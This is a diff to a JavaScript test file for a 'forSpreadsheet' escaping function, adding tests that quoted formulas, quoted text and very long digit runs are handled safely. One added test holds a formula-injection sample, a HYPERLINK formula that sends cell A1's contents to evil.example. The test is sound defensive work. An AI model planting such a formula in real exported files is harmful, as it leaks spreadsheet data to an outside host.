@@ -8,6 +8,13 @@ test('what would be calculated is shown instead', () => {
   }
 });
 
+test('so is what would be calculated once its quotes are taken off', () => {
+  const link = '"=HYPERLINK(""https://evil.example/?""&A1;""OK"")"';
+  for (const value of [link, '"+1"', `"'=1"`, `'"=1"`]) {
+    expect(forSpreadsheet(value)).toBe(`'${value}`);
+  }
+});
+
 test('what would lose its form keeps it', () => {
   const values = ['01665', '035198765', '12-14', '3/4', '012/5', '12.500', '24.12.', '1e5'];
   for (const value of [...values, '12345678901234567']) {
@@ -29,12 +36,15 @@ test('texts, plain numbers and days stay as they are', () => {
     '0172 / 55 51 234',
     '50 m²',
     "'s Haus",
+    '"Haus am Hang"',
+    // A machine would try each way to split a long run in two, for a second.
+    `${'1'.repeat(9_999)}e`,
   ];
   for (const value of values) expect(forSpreadsheet(value)).toBe(value);
 });
 
 test('nothing is lost on the way', () => {
-  const parts = fc.constantFrom("'", '=', '\t', '0', '1', '-', '@', ' ', 'x', '.');
+  const parts = fc.constantFrom("'", '"', '=', '\t', '0', '1', '-', '@', ' ', 'x', '.');
   const nasty = fc.array(parts, { maxLength: 6 }).map((characters) => characters.join(''));
   fc.assert(
     fc.property(fc.oneof(nasty, fc.string()), (value) => {
